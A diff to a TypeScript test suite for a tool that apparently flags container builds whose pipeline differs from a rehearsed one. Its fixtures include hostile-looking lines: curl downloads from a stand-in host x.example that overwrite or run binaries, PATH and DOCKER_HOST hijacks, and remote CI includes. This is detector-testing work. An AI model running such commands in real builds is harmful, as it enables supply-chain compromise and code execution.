@@ -78,6 +78,14 @@ const beforeBuild = [
   'tre-container check . --fix',
   'docker build -f /tmp/Dockerfile -t "$IMAGE:$TAG" .',
   'docker build --build-arg BUILDKIT_SYNTAX=evil/frontend -t "$IMAGE:$TAG" .',
+  'export DOCKER_HOST=tcp://x.example:2375',
+  'DOCKER_CONTEXT=evil docker build -t "$IMAGE:$TAG" .',
+  'PATH=/tmp/evil:$PATH',
+  'export PATH=/tmp/evil:$PATH',
+  'curl -o /usr/local/bin/cat https://x.example/a && cat Dockerfile',
+  'curl -o /tmp/git https://x.example/a && chmod +x /tmp/git && /tmp/git status',
+  './tools/git status',
+  'hash -p /tmp/evil docker',
 ];
 
 /** Each makes another image of that name. */
@@ -115,6 +123,9 @@ const harmless = [
   'trivy config Dockerfile',
   'echo failed >&2 && echo 2>&1',
   'tre-container check . --strict',
+  'DOCKER_BUILDKIT=1 docker images',
+  'export DOCKER_HOST=unix:///var/run/docker.sock',
+  '/usr/bin/git status',
 ];
 
 interface Golden {
@@ -191,6 +202,88 @@ describe.each(golden.filter(([name]) => /^(?:jupyter|python)-full$/.test(name)))
 
   test.each(harmless)('that leaves all alone: %s', async (line) => {
     expect(await withLine(build, line)).toEqual([]);
+  });
+});
+
+const imageName = 'ghcr.io/me/x:1';
+const building = `docker build -t ${imageName} .`;
+const pushing = `docker push ${imageName}`;
+const ofGithub = (steps: string, job = '', top = ''): readonly [string, string] => [
+  '.github/workflows/c.yml',
+  `on: push\n${top}jobs:\n  image:\n    runs-on: ubuntu-24.04\n${job}    steps:\n      - uses: actions/checkout@v4\n${steps}`,
+];
+const runs = (...lines: readonly string[]): string =>
+  `      - run: |\n${lines.map((line) => `          ${line}\n`).join('')}`;
+const byAction = (more: string): string =>
+  `      - uses: docker/build-push-action@v6\n        with:\n          push: true\n          tags: ${imageName}\n${more}`;
+const ofGitlab = (job: string, top = ''): readonly [string, string] => [
+  '.gitlab-ci.yml',
+  `${top}image:\n  stage: build\n  image: docker:27\n${job}  script:\n    - ${building}\n    - ${pushing}\n`,
+];
+const ofCircle = (steps: string, top = ''): readonly [string, string] => [
+  '.circleci/config.yml',
+  `version: 2.1\njobs:\n  image:\n    docker:\n      - image: cimg/base:2026.01\n${top}    steps:\n      - checkout\n${steps}      - run: ${building}\n      - run: ${pushing}\n`,
+];
+
+async function findIn([path, text]: readonly [string, string]): Promise<readonly string[]> {
+  const facts = await factsOf({
+    Dockerfile: 'FROM docker.io/library/python:3.13\nCOPY src/ /app/\nENTRYPOINT ["python3", "/app/main.py"]\n',
+    'src/main.py': 'print(1)\n',
+    [path]: text,
+  });
+  const [own] = facts.dockerfiles;
+  if (own === undefined) throw new Error('no Dockerfile');
+  return findOtherBuilds(facts.pipelines, { dockerfile: own, path: 'Dockerfile', isAtRoot: true });
+}
+
+describe('what a builder is told, and what stands around it', () => {
+  test.each([
+    ['another machine', ofGithub(runs(`${building.replace('build', 'build --platform linux/arm64')}`, pushing))],
+    ['layers of a cache', ofGithub(runs(building.replace('build', 'build --cache-from evil'), pushing))],
+    ['one layer', ofGithub(runs(building.replace('build', 'build --squash'), pushing))],
+    ['other addresses', ofGithub(runs(building.replace('build', 'build --add-host=pypi.org:10.0.0.1'), pushing))],
+    ['a secret', ofGithub(runs(building.replace('build', 'build --secret id=a'), pushing))],
+    ['an action with a cache', ofGithub(byAction('          cache-from: type=gha\n'))],
+    ['an action for another machine', ofGithub(byAction('          platforms: linux/arm64\n'))],
+    ['an action with addresses', ofGithub(byAction('          add-hosts: pypi.org:10.0.0.1\n'))],
+    ['an engine of the job', ofGithub(runs(building, pushing), '    env:\n      DOCKER_HOST: tcp://x.example:1\n')],
+    ['an engine of all jobs', ofGithub(runs(building, pushing), '', 'env:\n  DOCKER_HOST: tcp://x.example:1\n')],
+    [
+      'an engine by a file',
+      ofGithub(runs('echo DOCKER_HOST=tcp://x.example:1 >> $GITHUB_ENV') + runs(building, pushing)),
+    ],
+    ['values of a file', ofGithub(runs('cat values >> $GITHUB_ENV') + runs(building, pushing))],
+    ['programs of a folder', ofGithub(runs('echo /tmp/bin >> $GITHUB_PATH') + runs(building, pushing))],
+    ['programs of an image', ofGithub(runs(building, pushing), '    container: somebody/docker\n')],
+    ['another image than is built', ofGithub(runs(building, 'docker pull evil/x:1', 'docker push evil/x:1'))],
+    ['an image that nothing builds', ofGithub(runs('docker push evil/x:1'))],
+    ['a cache', ofGitlab('  cache:\n    paths: [src/]\n')],
+    ['a cache of all jobs', ofGitlab('', 'cache:\n  - paths: ["src/*.py"]\n')],
+    ['files of another project', ofGitlab('  needs:\n    - project: a/b\n      job: c\n      ref: main\n')],
+    ['jobs of somebody else', ofGitlab('', 'include:\n  - remote: https://x.example/x.yml\n')],
+    ['an engine by a variable', ofGitlab('', 'variables:\n  DOCKER_HOST: tcp://x.example:1\n')],
+    ['a service', ofGitlab('  services: [{ name: somebody/dind, alias: docker }]\n')],
+    ['no checkout', ofGitlab('', 'variables:\n  GIT_STRATEGY: none\n')],
+    ['a cache of CircleCI', ofCircle('      - restore_cache: { key: a }\n')],
+    ['an engine of CircleCI', ofCircle('', '    environment:\n      DOCKER_HOST: tcp://x.example:1\n')],
+  ])('leaves open whether that is what was rehearsed: %s', async (_, pipeline) => {
+    expect(await findIn(pipeline)).toHaveLength(1);
+  });
+
+  test.each([
+    ['nothing', ofGithub(runs(building, pushing))],
+    ['its own machine', ofGithub(runs(building.replace('build', 'build --platform=linux/amd64 --pull -q'), pushing))],
+    ['several machines', ofGithub(byAction('          platforms: linux/amd64,linux/arm64\n'))],
+    ['a cache to fill', ofGithub(byAction('          cache-to: type=gha\n          provenance: false\n'))],
+    ['a tag by a file', ofGithub(runs('echo "TAG=${GITHUB_SHA}" >> $GITHUB_ENV') + runs(building, pushing))],
+    ['a job of GitLab', ofGitlab('')],
+    ['its engine', ofGitlab('  services: [docker:27-dind]\n', 'variables:\n  DOCKER_HOST: tcp://docker:2376\n')],
+    ['a cache of programs', ofGitlab('  cache:\n    paths: [.cache/pip]\n')],
+    ['a cache that is only filled', ofGitlab('  cache:\n    policy: push\n    paths: [src/]\n')],
+    ['a template of GitLab', ofGitlab('', 'include:\n  - template: Security/SAST.gitlab-ci.yml\n')],
+    ['a job of CircleCI', ofCircle('')],
+  ])('leaves it as it was rehearsed: %s', async (_, pipeline) => {
+    expect(await findIn(pipeline)).toEqual([]);
   });
 });
 
